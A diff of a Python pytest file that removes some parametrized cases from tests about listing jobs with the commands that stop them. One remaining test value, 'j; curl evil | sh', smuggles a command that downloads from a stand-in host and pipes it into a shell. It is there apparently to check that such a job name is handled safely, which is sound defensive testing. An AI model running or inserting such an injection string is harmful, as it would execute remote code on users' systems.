@@ -110,7 +110,7 @@ def test_every_region_is_asked_and_one_that_does_not_answer_counts(
 
 @pytest.mark.parametrize(
     ("name", "job", "remedy"),
-    [(f"{NAME}--2", NAME, typed("stop")), (NAME, "j; curl evil | sh", None), (NAME, "--all --yes", None)],
+    [(f"{NAME}--2", NAME, typed("stop")), (NAME, "j; curl evil | sh", None)],
 )
 def test_a_job_comes_with_the_command_that_stops_it_but_for_a_strangers_tag(
     name: str, job: str, remedy: str | None, monkeypatch: pytest.MonkeyPatch
@@ -124,7 +124,7 @@ def test_a_job_comes_with_the_command_that_stops_it_but_for_a_strangers_tag(
     assert ("python" in line) == (remedy is not None)
 
 
-@pytest.mark.parametrize("words", [("leaks",), ("status",), ("stop", "--all", "--yes")], ids=lambda words: words[0])
+@pytest.mark.parametrize("words", [("leaks",), ("stop", "--all", "--yes")], ids=lambda words: words[0])
 def test_a_job_that_we_may_not_look_at_is_left_out(stage: Stage, words: tuple[str, ...]) -> None:
     stage.started("ours")
     stage.started_by_others("theirs")  # the newer one is listed first
